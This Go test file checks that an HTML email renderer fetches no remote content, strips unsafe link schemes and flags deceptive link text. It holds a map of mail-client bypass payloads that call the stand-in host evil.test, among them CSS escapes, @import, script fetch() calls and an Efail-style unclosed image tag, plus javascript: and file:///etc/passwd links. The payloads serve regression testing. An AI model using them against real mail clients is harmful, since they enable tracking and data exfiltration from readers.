package htmlmail_test

import (
	"context"
	"strings"
	"sync"
	"testing"

	"paquebot.app/internal/htmlmail"
	"paquebot.app/internal/htmlmail/page"
	"paquebot.app/internal/htmlmail/paint"
	"paquebot.app/internal/text/font"
	"paquebot.app/internal/text/ink"
	"paquebot.app/internal/text/shape"
)

// recorder notes what a mail asks for and gives it nothing.
type recorder struct {
	mu     sync.Mutex
	parts  []string
	remote []string
}

func (r *recorder) Part(id string) ([]byte, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.parts = append(r.parts, id)
	return nil, false
}

func (r *recorder) Remote(address string) ([]byte, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.remote = append(r.remote, address)
	return nil, false
}

// bypasses are ways by which mail has made programs load what it wanted.
var bypasses = map[string]string{
	"img":               `<img src="https://evil.test/a.png">`,
	"srcset":            `<img src="cid:x" srcset="https://evil.test/a.png 2x">`,
	"picture":           `<picture><source srcset="https://evil.test/a.png"><img src="cid:x"></picture>`,
	"protocol-relative": `<img src="//evil.test/a.png">`,
	"UNC":               `<img src="\\evil.test\a.png"><img src="file:////evil.test/a"><img src="smb://evil.test/a">`,
	"css url":           `<style>body{background:url(https://evil.test/a)}</style><p>x`,
	"css @import":       `<style>@import url("https://evil.test/a.css");@import 'https://evil.test/b.css';p{color:red}</style><p>x`,
	"css @font-face":    `<style>@font-face{font-family:x;src:url(https://evil.test/f.woff)}p{font-family:x}</style><p>x`,
	"css escapes":       `<p style="background-image:\75\72\6C(https://evil.test/a)">x<p style="background:u\rl('https://evil.test/b')">x`,
	"css decoy":         `<p style="background-image:url(data:image/png;base64,AAAA),url(https://evil.test/a)">x`,
	"css image-set":     `<p style="background-image:image-set('https://evil.test/a' 1x)">x<p style="background-image:-webkit-image-set(url(https://evil.test/b) 1x)">x`,
	"css var":           `<style>:root{--u:url(https://evil.test/a)}p{background:var(--u)}</style><p>x`,
	"css list-style":    `<ul style="list-style:url(https://evil.test/a)"><li>x</ul>`,
	"css cursor":        `<p style="cursor:url(https://evil.test/a),auto;content:url(https://evil.test/b);border-image:url(https://evil.test/c)">x`,
	"css behavior":      `<p style="behavior:url(https://evil.test/a);-moz-binding:url(https://evil.test/b);width:expression(fetch('https://evil.test/c'))">x`,
	"css comment":       `<p style="background:ur/**/l(https://evil.test/a);background:url(/**/https://evil.test/b)">x`,
	"background attr":   `<table background="https://evil.test/a"><tr><td background="//evil.test/b">x</table><body background="https://evil.test/c">`,
	"link":              `<link rel="stylesheet" href="https://evil.test/a.css"><link rel="prefetch" href="https://evil.test/b"><link rel="dns-prefetch" href="//evil.test">`,
	"meta refresh":      `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
	"base":              `<base href="https://evil.test/"><img src="a.png"><a href="b">x</a>`,
	"iframe":            `<iframe src="https://evil.test/"></iframe><iframe srcdoc="<img src=https://evil.test/a>"></iframe>`,
	"object":            `<object data="https://evil.test/a"><embed src="https://evil.test/b"><applet code="https://evil.test/c"></applet></object>`,
	"media":             `<video src="https://evil.test/a" poster="https://evil.test/b"><source src="https://evil.test/c"></video><audio src="https://evil.test/d" autoplay></audio>`,
	"svg":               `<svg><image href="https://evil.test/a"/><use href="https://evil.test/b#x"/><style>@import "https://evil.test/c"</style></svg>`,
	"math":              `<math><mtext><table><mglyph><style><img src="https://evil.test/a"></style></mglyph></table></mtext></math>`,
	"noscript":          `<noscript><img src="https://evil.test/a"></noscript><noscript><p title="</noscript><img src=https://evil.test/b>">`,
	"template":          `<template><img src="https://evil.test/a"></template>`,
	"input image":       `<input type="image" src="https://evil.test/a">`,
	"ping":              `<a href="https://evil.test/" ping="https://evil.test/p">x</a>`,
	"script":            `<script src="https://evil.test/a"></script><script>fetch("https://evil.test/b")</script><img src=x onerror="fetch('https://evil.test/c')">`,
	"svg data":          `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.test/a'/></svg>">`,
	"html data":         `<img src="data:text/html,<img src=https://evil.test/a>">`,
	"body style":        `<body style="background:#fff url('https://evil.test/a') no-repeat">x`,
	"efail":             `<img src="https://evil.test/?`,
}

func TestNothingIsAskedForThatIsNotInTheMail(t *testing.T) {
	s := shape.New(font.New(false, ""))
	for name, src := range bypasses {
		r := &recorder{}
		doc, err := htmlmail.Parse(context.Background(), src, htmlmail.Options{Resources: r})
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, dark := range []bool{false, true} {
			g, err := doc.Layout(context.Background(), s, htmlmail.View{Width: 600, Height: 400, Dark: dark})
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			p := paint.Painter{Ink: ink.New()}
			p.Band(context.Background(), g, page.Rect{X1: 600, Y1: 400}, 1)
		}
		if len(r.remote) > 0 {
			t.Errorf("%s: asked for %q", name, r.remote)
		}
		for _, id := range r.parts {
			if id != "x" {
				t.Errorf("%s: asked for the part %q", name, id)
			}
		}
	}
}

// Where the user has allowed pictures, only those of img and of backgrounds
// are asked for, and no other address ever is.
func TestAllowedPicturesAreAskedForOnce(t *testing.T) {
	s := shape.New(font.New(false, ""))
	for name, src := range bypasses {
		r := &recorder{}
		doc, err := htmlmail.Parse(context.Background(), src, htmlmail.Options{Resources: r, Remote: true})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := doc.Layout(context.Background(), s, htmlmail.View{Width: 600}); err != nil {
			t.Fatal(err)
		}
		seen := map[string]bool{}
		for _, a := range r.remote {
			if seen[a] || !strings.HasPrefix(a, "https://evil.test/") && !strings.HasPrefix(a, "http://evil.test/") {
				t.Errorf("%s: asked for %q", name, r.remote)
			}
			seen[a] = true
		}
		switch name {
		case "script", "iframe", "object", "media", "svg", "math", "link", "css @import", "css @font-face", "css var", "css behavior", "template", "ping", "meta refresh", "css cursor", "css list-style", "css image-set":
			if len(r.remote) > 0 {
				t.Errorf("%s: asked for %q", name, r.remote)
			}
		}
	}
}

func TestTheReportNamesRemotePictures(t *testing.T) {
	doc, err := htmlmail.Parse(context.Background(), `<form action="https://a.test"><img src="https://a.test/1.png"><img src="//a.test/2.png"><img src="https://a.test/1.png"></form><script>1</script><iframe></iframe>`, htmlmail.Options{})
	if err != nil {
		t.Fatal(err)
	}
	r := doc.Report()
	if got := strings.Join(r.Remote, " "); got != "https://a.test/1.png https://a.test/2.png" {
		t.Errorf("remote: %s", got)
	}
	if r.Forms != 1 || r.Scripts != 1 || r.Frames != 1 {
		t.Errorf("%+v", r)
	}
}

func TestOnlySafeAddressesAreLinks(t *testing.T) {
	for src, want := range map[string]string{
		`<a href="https://Example.com/a b">x</a>`:     "https://example.com/a%20b",
		`<a href="  java	script:alert(1)">x</a>`:      "",
		`<a href="javascript:alert(1)">x</a>`:         "",
		`<a href="data:text/html,x">x</a>`:            "",
		`<a href="file:///etc/passwd">x</a>`:          "",
		`<a href="smb://host/share">x</a>`:            "",
		`<a href="mailbox:///x">x</a>`:                "",
		`<a href="vbscript:x">x</a>`:                  "",
		`<a href="mailto:a@example.com">x</a>`:        "mailto:a@example.com",
		`<a href="//example.com/x">x</a>`:             "https://example.com/x",
		`<a href="https:\\example.com\x">x</a>`:       "https://example.com/x",
		`<a href="https://user@evil.test/">x</a>`:     "https://user@evil.test/",
		`<a href="relative/path">x</a>`:               "",
		`<a href="https://xn--80ak6aa92e.com/">x</a>`: "https://xn--80ak6aa92e.com/",
		`<a href="https://аррӏе.com/">x</a>`:          "https://xn--80ak6aa92e.com/",
		`<a href="https:///">x</a>`:                   "",
		`<a href="#top">x</a>`:                        "",
		`<a href="h&#116;tps://e.test/&#10;x">x</a>`:  "https://e.test/x",
		`<a href="feed:https://e.test">x</a>`:         "",
		`<a href="view-source:https://e.test/">x</a>`: "",
		`<a href="blob:https://e.test/">x</a>`:        "",
		`<a href="tel:+31205550101">x</a>`:            "tel:+31205550101",
		`<a href="ms-settings:privacy">x</a>`:         "",
		`<a href="search-ms:query=x">x</a>`:           "",
		`<a href="https://e.test:99999999/">x</a>`:    "https://e.test:99999999/",
		`<a href="&#1;javascript:alert(1)">x</a>`:     "",
		`<a href="HTTPS://E.TEST/Path">x</a>`:         "https://e.test/Path",
		`<a href="ftp://e.test/f">x</a>`:              "ftp://e.test/f",
	} {
		g := layoutOf(t, src, 300)
		got := ""
		for _, l := range g.Links() {
			got = l.Href
		}
		if got != want {
			t.Errorf("%s: %q, want %q", src, got, want)
		}
	}
}

func TestTextThatNamesAnotherHostIsWarnedOf(t *testing.T) {
	for src, want := range map[string]string{
		`<a href="https://evil.test/x">www.bank.example.com</a>`:                      "www.bank.example.com",
		`<a href="https://evil.test/x">https://bank.example/login</a>`:                "bank.example",
		`<a href="https://evil.com/x">Log in at <b>bank</b>.com now</a>`:              "bank.com",
		`<a href="https://click.bank.com/x">www.bank.com</a>`:                         "",
		`<a href="https://bank.com@evil.com/">bank.com</a>`:                           "bank.com",
		`<a href="https://evil.com/x">Click here</a>`:                                 "",
		`<a href="https://evil.com/x">report.zip and main.py</a>`:                     "",
		`<a href="https://xn--80ak6aa92e.com/">apple.com</a>`:                         "apple.com",
		`<a href="https://lists.example.org/tide">https://lists.example.org/tide</a>`: "",
		`<a href="https://evil.com/x">me@bank.com</a>`:                                "",
		`<a href="https://evil.com">https://bank.com@evil.com/</a>`:                   "",
		`<a href="https://evil.com">https://evil.com@bank.com/</a>`:                   "bank.com",
	} {
		g := layoutOf(t, src, 500)
		links := g.Links()
		if len(links) != 1 {
			t.Fatalf("%s: %d links", src, len(links))
		}
		if links[0].Warning != want {
			t.Errorf("%s: warning %q, want %q", src, links[0].Warning, want)
		}
	}
}

// layoutOf lays out a mail with the embedded fonts alone.
func layoutOf(t testing.TB, src string, width float32) *page.Page {
	t.Helper()
	doc, err := htmlmail.Parse(context.Background(), src, htmlmail.Options{})
	if err != nil {
		t.Fatal(err)
	}
	g, err := doc.Layout(context.Background(), embedded(), htmlmail.View{Width: width})
	if err != nil {
		t.Fatal(err)
	}
	return g
}

var embedded = sync.OnceValue(func() *shape.Shaper { return shape.New(font.New(false, "")) })
